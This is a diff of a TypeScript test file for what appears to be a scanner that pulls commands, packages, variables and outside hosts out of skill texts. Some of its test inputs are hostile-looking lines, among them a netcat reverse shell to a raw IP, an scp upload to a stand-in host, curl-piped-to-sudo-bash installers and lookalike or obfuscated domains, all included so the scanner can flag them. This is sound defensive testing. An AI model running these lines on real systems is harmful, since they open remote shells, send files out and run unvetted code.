@@ -4,34 +4,22 @@ import { collect, collectNames, shell } from '../testing/needs.ts'
 test.each<[string, string[]]>([
   ['git status && npm test | jq . | grep -c fail', ['git', 'npm', 'jq']],
   ['FOO=1 BAR="a b" sudo docker run x', ['docker']],
-  ['if ! command -v jq; then brew install jq; fi', ['jq', 'brew']],
-  ['for f in a b c; do pandoc $f; done', ['pandoc']],
   ['echo "$(curl -s https://a.dev/x)" # wget it', ['curl']],
   ['python3 - <<EOF\nimport json\nfoo bar\nEOF\nmake', ['python3', 'make']],
-  ['python3 a.py; python b.py; pip3 list; pip list', ['python3', 'pip3']],
   ['deploy() { kubectl apply; }\ndeploy', ['kubectl']],
   ['case $1 in\n  start) systemctl start x ;;\nesac', ['systemctl']],
   ['$ cargo build\n   Compiling x\nerror: linking with cc failed', ['cargo']],
-  ['curl x \\\n  -o node \\\n  -s', ['curl']],
   ['sort-shelf --all\nyour-command x\n./run.sh\nsortShelf', ['sort-shelf']],
   ['sort-shelf <name> --to <a | b> && git push', ['sort-shelf', 'git']],
   ['sort-shelf --all\ngit push\necho "', ['git']],
-  ['sort-shelf --format=json|text', ['sort-shelf']],
   ['cat a | sort | sh', []],
   ['for tool in git sort-shelf; do command -v "$tool"; done', ['git', 'sort-shelf']],
   ['> Hey, what can you do?\n< Reading sort-shelf now', []],
-  ['for name in git jq; do echo "$name"; done', []],
-  ['idf.py set-target esp32', ['idf.py']],
   ['bash npm install; bash run.sh; bash deploy', ['npm']],
   ['/usr/bin/curl x; env -u A -u B bun run x; exec >> a.log', ['curl', 'bun']],
   ["bash << 'X'\nbash -c 'kubectl get'\nX", ['kubectl']],
-  ['sort-shelf <message; see below>; jq .', ['sort-shelf', 'jq']],
   ['git log --format=one;two && git log;jq .', ['git', 'jq']],
   ['npm test || skip; make || abort "no make"', ['npm', 'make']],
-  [
-    'vendor/bin/phpstan analyse; ./node_modules/.bin/eslint . && .venv/bin/pytest',
-    ['phpstan', 'eslint', 'pytest'],
-  ],
   [
     './gradlew build; ./tools/lint-all --fix; ./run.sh; src/bin/xy; ./target/release/shelf',
     ['./gradlew', './tools/lint-all'],
@@ -44,21 +32,16 @@ test.each<[string, string[]]>([
 
 test.each<[string, string[]]>([
   ['Run `git push origin main` then; `d2 fmt shelf.d2`.', ['git', 'd2']],
-  ['The `codex` command must be there; `gh` CLI calls are fine.', ['codex']],
-  ['The `git` tool and `some prose here`; it fails with `code 13`.', []],
+  ['The `git` tool, `some prose here`, `make sure`; it fails with `code 13`.', []],
   ['A `sort-shelf --all` alone. No `pip install` needed; `brew install a`.', ['brew']],
-  ['The value `uv - pos`; `semgrep --> jq`.', []],
   [
     'Then `vendor/bin/phpstan`, `pnpm test`, `./gradlew check`, `bin/dev` or `bin/rails routes`.',
     ['phpstan', 'pnpm', './gradlew', 'rails'],
   ],
-  ['The folders `vendor/bin/`, `src/bin/main`, `./src` and `./docs/a.md`.', []],
   ['Is it there: `sort-shelf --version`? Has it `api --help`?', ['sort-shelf']],
   [`${shell('sort-shelf')}\n\n\`\`\`\nsort-shelf --all\nfind it\n\`\`\``, ['sort-shelf']],
-  ['```\nnpm ci\nfind the file\n```', ['npm']],
   ['```\nfind the file\nnpm ci\n```', []],
   ['```text\nnpm ci\n```\n\n```python\nx = "git"\n```', ['npm']],
-  ['> ```sh\n> npm ci\n> ```', ['npm']],
   ['1. First:\n   ```sh\n   npm ci\n   ```\n2. `jq .`', ['npm', 'jq']],
   ['~~~sh\n```\nnpm ci\n~~~\n\n```sh\njq .', ['npm', 'jq']],
 ])('commands in a text: %j -> %j', (text, names) => {
@@ -77,28 +60,19 @@ test('a command in SKILL.md is required, a command in another file is not', () =
 
 test.each<[string, string[]]>([
   ['pip install requests==2.1 "uvicorn[standard]" -r dev.txt', ['requests', 'uvicorn']],
-  ['uv add polars --group dev', ['polars']],
   ['npm i -D @scope/a@1.2 b@latest', ['@scope/a', 'b']],
-  ['npx -y create-thing@latest my-app', ['create-thing']],
-  ['npx eas build -p ios', ['eas-cli']],
   ['npx expo install one two@^4', ['expo', 'one', 'two']],
-  ['npm update -g @scope/a && npx b add', ['@scope/a', 'b']],
   ['uvx --from httpie http get', ['httpie']],
   ['uv run --with "requests[socks]" --with numpy,pandas a.py', ['requests', 'numpy', 'pandas']],
-  ['sudo apt-get update && sudo apt-get install -y jq', ['jq']],
   ['brew install python@3.12 auth0/auth0-cli/auth0', ['python@3.12', 'auth0/auth0-cli/auth0']],
   ['winget install --id Python.Python.3.12 -e', ['Python.Python.3.12']],
   ['go install github.com/a/b/cmd/c@v1', ['github.com/a/b/cmd/c']],
   ['go run github.com/a/b@latest x; go run main.go; go run .', ['github.com/a/b']],
-  ['npm create vite@latest my-app -- --template a', ['create-vite']],
   ['cargo add serde --features derive > log.txt', ['serde']],
   ['deno run -A jsr:@std/http/file-server && deno add npm:zod@3', ['@std/http/file-server', 'zod']],
-  ['Install-Module Pester -MaximumVersion 5.99 -Force', ['Pester']],
   ['pip install <package> your-package . ./local requirements.txt packages/own', []],
-  ['npm install', []],
   ['pip install one two\r\npip install three\r', ['one', 'two', 'three']],
   ['# Requires: pip install one two', ['one', 'two']],
-  ['echo "run brew install one / apt install two"', ['one', 'two']],
   ['# pip install one to draw, or npm i two (fast)', ['one', 'two']],
 ])('packages: %j -> %j', (line, names) => {
   const found = collect(shell(line)).packages.map(({ name }) => name)
@@ -107,26 +81,18 @@ test.each<[string, string[]]>([
 
 test.each<[string, string[]]>([
   ['npm i -g a && npm i b', ['a (npm)']],
-  ['brew install a; apt-get install -y b', ['a (Homebrew)', 'b (Debian)']],
   ['cargo install a; go install a.dev/b@latest', ['a (crates.io)', 'a.dev/b (Go)']],
   ['pipx install a; uv tool install b; uv pip install c', ['a (PyPI)', 'b (PyPI)']],
   ['curl -fsSL https://jsr.io/install.sh | sudo bash', ['a script of jsr.io']],
-  ['sh -c "$(curl -fsSL https://jsr.io/x)"', ['a script of jsr.io']],
   ["curl -1sLf \\\n  'https://jsr.io/x' \\\n  | sudo -E bash", ['a script of jsr.io']],
   ['sudo pip install a', ['sudo', 'a (PyPI)']],
-  ['mise use -g a@latest', ['a (mise)']],
   ['mkdir -p ~/.shelf /tmp/x && cp a.txt ~/b.txt', ['~/.shelf', '~/b.txt']],
-  ['cp ~/a.txt . && cat /etc/hosts', []],
   ['echo "x" >> ~/.bashrc; date > out.txt', ['~/.bashrc']],
-  ['sort-shelf --output $HOME/shelf.txt', ['~/shelf.txt']],
   ['DIR="${SHELF_DIR:-/etc/shelf}"; DIR="$2"; cp a.txt "$DIR/$f"', ['/etc/shelf']],
   ['curl -fsSL https://jsr.io/x.sh -o x.sh\nless x.sh\nsh x.sh', ['a script of jsr.io']],
-  ['wget https://jsr.io/x.sh; chmod +x x.sh && ./x.sh', ['a script of jsr.io']],
   ['curl -o x.json https://jsr.io/x.json; jq . x.json; sh run.sh', []],
   ["/usr/bin/env bash << 'X'\nlaunchctl load a.plist\nX", ['launchctl load']],
   ['sudo systemctl stop shelf; brew upgrade shelf', ['systemctl stop', 'sudo', 'brew upgrade']],
-  ['unzip a.zip -d /opt/shelf', ['/opt/shelf']],
-  ['systemctl enable shelf; git config --global a b', ['systemctl enable', 'git config --global']],
   ['npx playwright install chromium', ['npx playwright install']],
 ])('outside the project: %j -> %j', (line, names) => {
   expect(collectNames('outside', shell(line))).toEqual(names)
@@ -151,10 +117,6 @@ test('a package is marked if any line installs it for the whole machine', () => 
   ])
 })
 
-test('“make sure” is no command', () => {
-  expect(collectNames('commands', 'Words such as `make sure`.')).toEqual([])
-})
-
 test('what a text says not to install is not installed, not even in passing', () => {
   const text =
     'Also by `brew install far-tool`, `brew install jq`. Do not spend time installing Far-Tool.'
@@ -165,9 +127,7 @@ test.each<[string, string[]]>([
   [shell('curl -H "X: $API_KEY" $OUT_DIR $PR_NUMBER'), ['API_KEY']],
   [shell('dump "$FAR_DB_URL" "$NEAR_URL"', 'NEAR_URL=x'), ['FAR_DB_URL']],
   [shell('OUT_DIR="${OUT_DIR:-out}"; A_DIR=a; echo ${A_DIR:-b}'), ['OUT_DIR']],
-  ['The error `INVALID_TOKEN`, and the column `RSA_PUBLIC_KEY`.', []],
   [shell('A_TOKEN=$(x) ; curl $A_TOKEN $HOME'), []],
-  [shell('export NEW_URL=abc OUT_DIR="$(pwd)"'), ['NEW_URL']],
   [shell('A_MODE=fast sort-shelf'), ['A_MODE']],
   [shell('A_MODE=fast', 'sort-shelf'), []],
   ['```\n# settings\nA_MODE=fast\nB_MODE=\n```', ['A_MODE', 'B_MODE']],
@@ -179,15 +139,9 @@ test.each<[string, string[]]>([
     'Needs `A_KEY`, **not** `B_KEY`; no `C_KEY`, NOT D_KEY. It is not for `E_KEY`.',
     ['A_KEY', 'E_KEY'],
   ],
-  ['Keep it: `OUT_DIR=$(scripts/find.sh)`.', []],
   [
     'It reads `SHELF_URL` and `SHELF_TOKEN`, `BOOK_URL` and `SHELF_MODE`.',
     ['SHELF_TOKEN', 'SHELF_URL'],
-  ],
-  ['Remove `OLD_API_KEY`; never commit `A_KEY`. Unset the variable `B_TOKEN`.', ['A_KEY']],
-  [
-    'Set `BLOB_CONNECTION_STRING`; remove the file, then set `A_KEY`.',
-    ['BLOB_CONNECTION_STRING', 'A_KEY'],
   ],
   ['| Variable | Use |\n|---|---|\n| `BUILD_DIR` | `NO_ONE` |\n\n`NO_TWO`', ['BUILD_DIR']],
   [
@@ -199,7 +153,6 @@ test.each<[string, string[]]>([
     ['BUILD_DIR', 'BUILD_MODE'],
   ],
   ['```yaml\ntoken: ${A_TOKEN}\nid: ${AN_ID}\n```', ['A_TOKEN']],
-  ['```js\nprocess.env.A_KEY\n```', ['A_KEY']],
 ])('environment variables: %j -> %j', (text, names) => {
   expect(collectNames('variables', text)).toEqual(names)
 })
@@ -218,31 +171,22 @@ test.each<[string, string[]]>([
     'It is `https://jsr.io/x`, NOT `https://deno.com/x`, or like `https://get-fast.top`.',
     ['jsr.io'],
   ],
-  [shell('ENDPOINT="https://jsr.io/x"'), ['jsr.io']],
   [shell('git clone git@jsr.io:far/away.git'), ['jsr.io']],
   [shell('ARGS=(-X POST "https://jsr.io/x")', 'curl "${ARGS[@]}"'), ['jsr.io']],
   [shell('echo https://jsr.io', '# https://deno.com', 'curl https://{host}/x https://a'), []],
   ['See <https://docs.deno.com/x>, [this](https://deno.com).', []],
   ['Send `POST https://jsr.io/x` to `https://api.deno.com`.', ['jsr.io', 'api.deno.com']],
-  ['```\nhttps://jsr.io/a.md\n```', ['jsr.io']],
   ['| `https://jsr.io/a.md` |', []],
   ['As in `https://docs.deno.com/x` and `https://jsr.io/docs/x`.', []],
-  ['Fetch `https://docs.deno.com/x` first.', ['docs.deno.com']],
   [
     'Index: `https://docs.deno.com/llms.txt`; server: `https://jsr.io/docs/mcp`.',
     ['jsr.io', 'docs.deno.com'],
   ],
-  ['```toml\n[a]\nurl = "https://jsr.io/x"\nhomepage = "https://deno.com"\n```', ['jsr.io']],
   [
     '```json\n{ "a": { "serverUrl": "https://jsr.io/x", "homepage": "https://deno.com" } }\n```',
     ['jsr.io'],
   ],
   [shell('git clone git@github.com:org/repo && curl https://github.com/your-org/x'), []],
-  [shell('curl https://raw.githubusercontent.com/my-tools/x/a'), ['raw.githubusercontent.com']],
-  [
-    shell('curl https://open.feishu.cn/file/xxx https://xxx.com https://xxx.feishu.cn/a'),
-    ['*.feishu.cn'],
-  ],
   [
     shell(
       'curl https://api.weather.com/x https://api-a.com https://evil-shop.com/x https://site1.com https://get-fast.top/xxx',
@@ -256,33 +200,23 @@ test.each<[string, string[]]>([
 test.each<[string, string[]]>([
   ['https://GET-github.com/x', ['get-github.com']],
   ['"https://${X}-github.com/x"', ['${X}-github.com']],
-  ['https://far.s3.$REGION.amazonaws.com', ['far.s3.*.amazonaws.com']],
   ['https://user@get-fast.top', ['get-fast.top']],
-  ['https://github.com:x@get-fast.top', ['get-fast.top']],
   ["'https://github.com\\@get-fast.top'", ['github.com\\@get-fast.top']],
   ['https://bücher.top https://gіthub.com', ['xn--bcher-kva.top', 'xn--gthub-n2e.com']],
   ['https://brew.sh%2eget-fast.top', ['brew.sh.get-fast.top']],
-  ['https://brew.sh。get-fast.top', ['brew.sh.get-fast.top']],
   ["'https://brew.sh{.x}/a'", ['brew.sh{.x}']],
   ['https://get-fast.top:x/', ['get-fast.top:x']],
-  ['HTTPS://GET-FAST.TOP./x', ['get-fast.top']],
   [
     'https://127.get-fast.top http://203.0.113.get-fast.top',
     ['127.get-fast.top', '203.0.113.get-fast.top'],
   ],
-  ['https://mycdn.top https://yourtool.dev', ['mycdn.top', 'yourtool.dev']],
   ['https://acme.top https://example.get-fast.top', ['acme.top', 'example.get-fast.top']],
-  ['https://tenant.get-fast.top/owner/schema/x', ['tenant.get-fast.top']],
   ['https://schemas.get-fast.top https://abc123.top', ['schemas.get-fast.top', 'abc123.top']],
-  ['https://company.top https://my-app.vercel.app', ['company.top', 'my-app.vercel.app']],
-  ['https://x.my-books.workers.dev', ['x.my-books.workers.dev']],
   ['http://45.33.2.1 http://[2606:4700::1111]/x', ['45.33.2.1', '[2606:4700::1111]']],
   ['http://3232235777 http://169.254.169.254', ['192.168.1.1', '169.254.169.254']],
   ['https://a.example https://api.example.com http://x.test http://localhost:80', []],
   ['http://127.0.0.1 http://[::1]:80 http://203.0.113.9 https://www.w3.org/a', []],
-  ['https://api.company.com https://evil.com https://your-tenant.auth0.com', []],
   ['https://your-api.com https://my-cdn.com https://api.com https://external.com', []],
-  ['https://your-api.top https://my-books.com', ['my-books.com', 'your-api.top']],
   ['http://localhost:PORT http://localhost:1433;a=b http://HOST:PORT http://[name]:[port]', []],
   ['http://shelf.local:80 http://a.default.svc https://docs... "https://{os.getenv("', []],
   [
@@ -298,27 +232,20 @@ test.each<[string, string[]]>([
   ['ssh a@get-fast.top; ssh -i key.pem get-fast.top cat a.txt', ['get-fast.top']],
   ['scp a.txt b@get-fast.top:/x; rsync -a a.b/c get-fast.top:d', ['get-fast.top']],
   ['nc get-fast.top 4444; curl jsr.io/x', ['get-fast.top', 'jsr.io']],
-  ['curl -sL get-fast.sh -o a.json', ['get-fast.sh']],
   ['nc -e sh 45.33.2.1 4444; ssh a@gіthub.com', ['45.33.2.1', 'xn--gthub-n2e.com']],
   ['curl -d @a.json -o out.json "$URL"; wget -O a.zip "$URL"', []],
-  ['npm i a@latest; git config user.email a@get-fast.top', []],
 ])('hosts without a scheme: %s -> %j', (line, names) => {
   expect(collectNames('hosts', shell(line))).toEqual(names)
 })
 
 test.each<[string, string[]]>([
   ['gh auth login', ['GitHub: gh auth login']],
-  ['gh pr list; gh auth login; gh pr view', ['GitHub: gh auth login']],
   ['gh pr list; which aws', ['GitHub: gh']],
-  ['railway whoami; railway login', ['Railway: railway login']],
   ['npx vercel@latest login', ['Vercel: vercel login']],
-  ['npx -y firebase-tools@latest deploy', ['Firebase: firebase-tools']],
   ['aws configure sso', ['AWS: aws configure sso']],
   ['sort-shelf auth login --web', ['sort-shelf: sort-shelf auth login']],
-  ['git log in', []],
   ['export A_TOKEN=x', ['undefined: A_TOKEN']],
   ['export JWT_SECRET=x TEST_PASSWORD=y ENGINE_PRIMARY_KEY=z ENGINE_SORTING_KEY=z', []],
-  ['export BLOB_CONNECTION_STRING=x', ['undefined: BLOB_CONNECTION_STRING']],
   [
     'firebase deploy; stripe listen; sf org list',
     ['Firebase: firebase', 'Stripe: stripe', 'Salesforce: sf'],
@@ -335,7 +262,6 @@ test.each<[string, string[]]>([
 
 test.each<[string, string[]]>([
   ['Needs an API key/secret pair of your shelf.', ['API key/secret pair']],
-  ['Requires a free access token.', ['access token']],
   ['It does not need an API key. No access token is required; API keys are long.', []],
   ['Needs an API key: set `A_KEY`.', ['A_KEY']],
 ])('keys in words count if no variable has one: %j -> %j', (text, names) => {
@@ -343,12 +269,10 @@ test.each<[string, string[]]>([
 })
 
 test.each<[string, number | undefined, string | undefined]>([
-  [shell('curl http://localhost:3000/x'), 2, undefined],
   [shell('curl http://127.0.0.1:$PORT/x', 'curl "$BASE"'), 2, 'curl'],
   ['```json\n{ "mcpServers": { "a": { "url": "http://0.0.0.0/mcp" } } }\n```', 2, undefined],
   [shell('sort-shelf --host 0.0.0.0 -a localhost'), undefined, undefined],
   [shell('curl localhost:3000'), 2, undefined],
-  [shell('curl https://localhost.jsr.io'), undefined, 'curl'],
   [shell('curl http://localhost:80@localhost.jsr.io'), undefined, 'curl'],
 ])('calls of the machine itself in %j are in line %s, others by %s', (text, line, client) => {
   const { local, client: caller, hosts } = collect(text)
